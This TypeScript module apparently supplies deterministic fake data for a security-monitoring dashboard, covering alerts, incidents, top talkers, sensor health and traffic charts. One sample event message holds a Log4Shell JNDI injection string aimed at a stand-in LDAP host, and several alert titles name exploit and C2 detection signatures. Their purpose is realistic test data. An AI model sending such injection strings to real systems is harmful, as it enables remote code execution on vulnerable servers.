import type { Alarm } from '#contract/alarm.ts';
import type { ArcColumns, FlowColumns, RateColumns } from '#contract/frame.ts';
import type { Health } from '#contract/health.ts';
import type { Incident, IncidentRow } from '#contract/incident.ts';
import type { Place } from '#contract/place.ts';
import type { Severity } from '#contract/severity.ts';
import type { AlertRow, Changes, Status, Talkers, TopList, TopLists } from '#contract/wall.ts';
import { attack, sensors } from './synthetic-figures.ts';

/** A small believable world for a wall without a core. Deterministic: the same seed gives the same picture. */
export function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

const country = (id: number, code: string, name: string, latitude: number, longitude: number): Place => ({
  id,
  kind: 'country',
  code,
  name,
  latitude,
  longitude,
});

export const PLACES: readonly Place[] = [
  { id: 0, kind: 'unknown', code: '', name: 'unknown', latitude: 0, longitude: 0 },
  { id: 1, kind: 'site', code: 'Seoul DC', name: 'Seoul DC', latitude: 37.5, longitude: 127 },
  { id: 2, kind: 'site', code: 'Frankfurt', name: 'Frankfurt', latitude: 50.1, longitude: 8.7 },
  country(10, 'NL', 'Netherlands', 52.1, 5.3),
  country(11, 'US', 'United States', 39.8, -98.6),
  country(12, 'BR', 'Brazil', -10.8, -52.9),
  country(13, 'CN', 'China', 36.6, 103.8),
  country(14, 'RU', 'Russia', 61.9, 96.7),
  country(15, 'VN', 'Vietnam', 16.6, 106.3),
  country(16, 'NG', 'Nigeria', 9.6, 8.1),
  country(17, 'AU', 'Australia', -25.7, 134.5),
  country(18, 'IN', 'India', 22.9, 79.6),
];

const TITLES: readonly (readonly [Severity, string])[] = [
  [4, 'ET EXPLOIT Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)'],
  [3, 'SSH brute force from one source'],
  [2, 'ET SCAN Suspicious inbound to MSSQL port 1433'],
  [1, 'ET POLICY curl User-Agent Outbound'],
  [2, 'GPL ICMP_INFO PING *NIX'],
  [0, 'SURICATA STREAM Packet with invalid timestamp'],
  [3, 'ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain'],
  [1, 'ET INFO Session Traversal Utilities for NAT (STUN Binding Request)'],
];
const SOURCES = [
  '203.0.113.9',
  '198.51.100.77',
  '192.0.2.14',
  '2001:db8:42::1f',
  '45.33.32.156',
  '10.4.1.20',
];

export function alertRows(now: number, count: number): AlertRow[] {
  const next = random(7);
  return Array.from({ length: count }, (_, index) => {
    const [severity, title] = TITLES[index % TITLES.length] ?? [0, ''];
    const last = now - index * 7300 - 900;
    return {
      id: `alert-${index}`,
      event: `event-${index}`,
      kind: 'sensor',
      severity,
      title,
      category: 'Attempted Administrator Privilege Gain',
      organization: index % 4 === 3 ? 'Hanbit Bank' : 'Daon Energy',
      sensor: index % 2 === 0 ? 'suri-seoul-1' : 'suri-fra-1',
      source: SOURCES[index % SOURCES.length] ?? '',
      sourcePlace: 10 + (index % 9),
      destination: '10.20.3.11',
      destinationPlace: 1 + (index % 2),
      destinationPort: index % 3 === 0 ? 443 : 22,
      first: last - 60_000,
      last,
      count: index % 3 === 1 ? Math.ceil(next() * 4000) : 1,
      highlightedUntil: index === 0 ? now + 20_000 : 0,
    };
  });
}

const INCIDENTS: readonly (readonly [Severity, string, string, readonly string[]])[] = [
  [4, 'Exploit, then outbound connection', '203.0.113.9', ['TA0001', 'TA0011']],
  [3, 'SSH brute force', '198.51.100.77', ['TA0043', 'TA0006']],
  [3, 'Lateral movement over SMB', '10.4.1.20', ['TA0007', 'TA0008']],
  [2, 'Port scan of Seoul DC', '192.0.2.14', ['TA0043']],
  [2, 'DNS tunnelling suspected', '10.4.7.33', ['TA0010']],
  [1, 'Outdated TLS clients', '10.20.0.0/16', []],
  [1, 'Policy: remote desktop from abroad', '45.33.32.156', ['TA0001']],
];

export function incidentRows(now: number): IncidentRow[] {
  return INCIDENTS.map(([severity, title, value, tactics], index) => ({
    id: `incident-${index}`,
    title,
    severity,
    state: index < 4 ? 'active' : 'quiet',
    opened: now - 45_000 - index * 131_000,
    updated: now - index * 9000,
    cause: { role: 'source', value },
    peerCount: 3,
    sourcePlace: 10 + index,
    destinationPlace: 1,
    tactics: [...tactics],
    techniques: [],
    count: 12 * (index + 1),
    organization: index % 3 === 2 ? 'Hanbit Bank' : 'Daon Energy',
    sensors: [index % 2 === 0 ? 'suri-seoul-1' : 'suri-fra-1'],
    categories: ['Attempted Administrator Privilege Gain'],
  }));
}

/** Seconds ago, oldest first. */
const LATEST: readonly (readonly [number, Severity, string, number, string])[] = [
  [96, 2, '10.20.3.12', 8080, 'ET SCAN Nmap Scripting Engine User-Agent'],
  [71, 4, '10.20.3.11', 8080, 'ET EXPLOIT Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)'],
  [58, 4, '10.20.3.11', 8080, '/search?q=${jndi:ldap://203.0.113.9:1389/a}'],
  [45, 4, '203.0.113.9', 1389, 'ET HUNTING LDAP Response to Internal Host after JNDI Lookup'],
  [21, 3, '10.20.9.4', 53, 'ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain'],
  [8, 3, '2001:db8:42::1f', 443, 'ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain'],
];

/** The gravest, with its evidence. */
export function incidentDetail(now: number): Incident {
  const [row] = incidentRows(now);
  const rule = (title: string, level: Severity, first: number, last: number, count: number) => ({
    rule: title,
    title,
    kind: 'sensor' as const,
    level,
    first: now - first * 1000,
    last: now - last * 1000,
    count,
    techniques: ['T1190'],
    reason: `source.ip = ${row!.cause.value}`,
    events: [`event-${title}`],
  });
  return {
    ...row!,
    peers: ['10.20.3.11', '10.20.3.12', '10.20.9.4'],
    latest: LATEST.map(([seconds, severity, destination, port, message]) => ({
      id: `event-${seconds}`,
      time: now - seconds * 1000,
      severity,
      source: row!.cause.value,
      destination,
      port,
      transport: port === 53 ? 'udp' : 'tcp',
      message,
    })),
    assets: [
      { name: 'shop-web-2', address: '10.20.3.12', criticality: 'medium', owner: '' },
      { name: 'customer-db-1', address: '10.20.3.11', criticality: 'critical', owner: 'Database team, 4410' },
    ],
    detections: [
      rule('ET SCAN Nmap Scripting Engine User-Agent', 2, 610, 420, 212),
      rule('ET EXPLOIT Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)', 4, 380, 40, 37),
      rule('ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain', 3, 120, 8, 6),
      rule('Exploit, then outbound connection', 4, 45, 45, 1),
    ],
  };
}

export function alarmOf(row: IncidentRow, state: Alarm['state'], now: number): Alarm {
  return {
    id: row.id,
    title: row.title,
    severity: row.severity,
    state,
    raised: row.opened,
    changed: now,
    by: '',
    reason: '',
    until: 0,
    count: row.count,
  };
}

/** Shares of the count that the span before had. */
const BEFORE = [0.4, 1.02, 0, 1.8, 0.9] as const;

function topList(labels: readonly string[], total: number, severity: Severity): TopList {
  let left = total * 0.4;
  const entries = labels.map((label, index) => {
    const count = Math.round(left);
    left *= 0.58;
    return { key: label, label, count, before: Math.round(count * BEFORE[index % 5]!), severity };
  });
  return { entries, total, distinct: labels.length * 37, bounded: false };
}

export function talkers(): Talkers {
  return {
    ...talkersLists(),
    spanMs: 600_000,
    compared: true,
    internal: {
      ...talkersLists(),
      sources: topList(['10.4.1.21', '10.4.1.22'], 512, 1),
    },
  };
}

function talkersLists(): TopLists {
  return {
    sources: topList([...SOURCES, '10.4.1.21', '10.4.1.22'], 48_213, 2),
    targets: topList(['10.20.3.11', '10.20.3.12', '10.20.9.4', '10.20.3.80', '10.1.1.1'], 48_213, 3),
    signatures: topList(
      TITLES.map(([, title]) => title),
      9120,
      1,
    ),
    countries: topList(['NL', 'US', 'BR', 'CN', 'VN', 'NG'], 31_007, 1),
    ports: topList(['443', '22', '1433', '3389', '53', '8080'], 48_213, 0),
    urls: topList(
      ['shop.example/cart', 'shop.example/login', '/wp-login.php', 'mail.example/owa/auth'],
      5210,
      2,
    ),
  };
}

export function health(now: number): Health {
  const source = { kind: 'eve-file', detail: '', malformed: 0, dropped: 0, lastDropAt: 0, backlogBytes: 0 };
  return {
    startedAt: now - 93_600_000,
    sources: [
      {
        ...source,
        name: 'eve-seoul',
        state: 'live',
        events: 8_412_093,
        rate: 412,
        lastEventAt: now - 400,
        lagMs: 640,
      },
      {
        ...source,
        name: 'eve-frankfurt',
        state: 'live',
        events: 91_822,
        rate: 38.4,
        lastEventAt: now - 900,
        lagMs: 910,
        malformed: 3,
      },
    ],
    displays: [{ name: 'main', sound: 'running', since: now - 60_000 }],
    rules: { loaded: 62, failed: 0 },
    correlation: { groups: 318, entries: 4120, evicted: 0, lastEvictedAt: 0, late: 0 },
    heapBytes: 131_400_000,
    loopDelayMs: 11.2,
    quarantine: [
      {
        at: now - 42_000,
        source: 'eve-frankfurt',
        reason: 'Unterminated string in JSON at position 4096 (line 1 column 4097)',
        count: 2,
        sample: '{"timestamp":"2026-11-24T11:58:08.028879+0000","event_type":"al',
      },
      {
        at: now - 5_400_000,
        source: 'eve-frankfurt',
        reason: 'No readable time',
        count: 1,
        sample: '{"event_type":"dns"}',
      },
    ],
    notices: [],
  };
}

export function status(now: number): Status {
  return {
    mode: 'live',
    events: 8_503_915,
    rate: 447,
    peakRate: 1284,
    dropped: 0,
    malformed: 3,
    lastEventAt: now,
    lagMs: 640,
    olderThanChart: 0,
    arcShare: 1,
    staleAfterMs: 10_000,
    timeZones: ['Asia/Seoul', 'UTC'],
  };
}

/** Everything a busy wall knows at `now`. */
export function busyChanges(now: number): Changes {
  const rows = incidentRows(now);
  const alarms = rows
    .slice(0, 3)
    .map((row, index) => alarmOf(row, index === 2 ? 'acknowledged' : 'unacknowledged', now));
  return {
    places: [...PLACES],
    status: status(now),
    alerts: { rows: alertRows(now, 40), total: 1291, evicted: 0 },
    incidents: { rows, open: [0, 2, 2, 2, 1], evicted: 0 },
    alarms: {
      rows: alarms,
      annunciation: { sequence: 3, sound: 'critical', repeat: true, recent: 3, flood: false },
    },
    highlights: [
      {
        id: 'incident-0',
        severity: 4,
        title: rows[0]?.title ?? '',
        sourcePlace: 10,
        destinationPlace: 1,
        until: now + 20_000,
      },
    ],
    talkers: talkers(),
    health: health(now),
    kpis: {
      alertsByMinute: [4, 6, 3, 5, 7, 4, 6, 5, 18, 26, 31, 22, 14, 11, 9, 3],
      acknowledge: { medianMs: 74_000, count: 38 },
      close: { medianMs: 2_640_000, count: 21 },
    },
    attack: attack(now),
    sensors: sensors(now),
  };
}

/** What a core without any event knows. */
export function quietChanges(now: number): Changes {
  const none: TopList = { entries: [], total: 0, distinct: 0, bounded: false };
  const lists = {
    sources: none,
    targets: none,
    signatures: none,
    countries: none,
    ports: none,
    urls: none,
  };
  return {
    places: [...PLACES],
    status: {
      ...status(now),
      mode: 'none',
      events: 0,
      rate: 0,
      peakRate: 0,
      malformed: 0,
      lastEventAt: 0,
      lagMs: 0,
    },
    alerts: { rows: [], total: 0, evicted: 0 },
    incidents: { rows: [], open: [0, 0, 0, 0, 0], evicted: 0 },
    alarms: { rows: [], annunciation: { sequence: 0, sound: null, repeat: false, recent: 0, flood: false } },
    highlights: [],
    talkers: {
      spanMs: 600_000,
      compared: false,
      ...lists,
      internal: lists,
    },
    health: { ...health(now), sources: [], quarantine: [] },
    kpis: {
      alertsByMinute: Array.from({ length: 16 }, () => 0),
      acknowledge: { medianMs: 0, count: 0 },
      close: { medianMs: 0, count: 0 },
    },
    attack: { cells: [], more: 0, tactics: [] },
    sensors: { rows: [], more: 0, untold: 0 },
  };
}

/** Counts for one second: a slow wave, noise, and a burst some minutes ago. */
function countsAt(second: number, newest: number): readonly number[] {
  const next = random(Math.imul(second, 0x9e3779b1) ^ 0x5bd1e995);
  next();
  const age = newest - second;
  const wave = 300 + 90 * Math.sin(second / 140) + 60 * next();
  const burst = age > 260 && age < 330 ? 2.1 : 1;
  return [
    Math.round(wave * burst),
    Math.round(wave * 0.22 * next()),
    Math.round(wave * 0.12 * next() * burst),
    next() < 0.08 ? Math.ceil(next() * 14) : 0,
    next() < 0.012 ? Math.ceil(next() * 4) : 0,
  ];
}

export function rateColumns(from: number, to: number): RateColumns {
  const seconds = Uint32Array.from({ length: to - from + 1 }, (_, index) => from + index);
  const counts = new Uint32Array(seconds.length * 5);
  seconds.forEach((second, row) => counts.set(countsAt(second, to), row * 5));
  return { seconds, counts };
}

export function arcs(seed: number, count: number): ArcColumns {
  const next = random(seed);
  const pick = () => (next() < 0.06 ? 1 : 10 + Math.floor(next() * 9));
  return {
    weight: Uint32Array.from({ length: count }, () => Math.ceil(next() * 20)),
    source: Uint16Array.from({ length: count }, pick),
    target: Uint16Array.from({ length: count }, () => (next() < 0.7 ? 1 : 2)),
    severity: Uint8Array.from({ length: count }, () => Math.floor(next() ** 3 * 5)),
    flags: new Uint8Array(count),
  };
}

export function flows(): FlowColumns {
  const next = random(11);
  const rows = Array.from({ length: 16 }, (_, index) => ({
    count: Math.ceil(9000 / (index + 1)),
    source: 10 + (index % 9),
    target: 1 + (index % 2),
    severity: Math.floor(next() * 5),
  }));
  return {
    count: Uint32Array.from(rows, ({ count }) => count),
    source: Uint16Array.from(rows, ({ source }) => source),
    target: Uint16Array.from(rows, ({ target }) => target),
    severity: Uint8Array.from(rows, ({ severity }) => severity),
    flags: new Uint8Array(rows.length),
  };
}
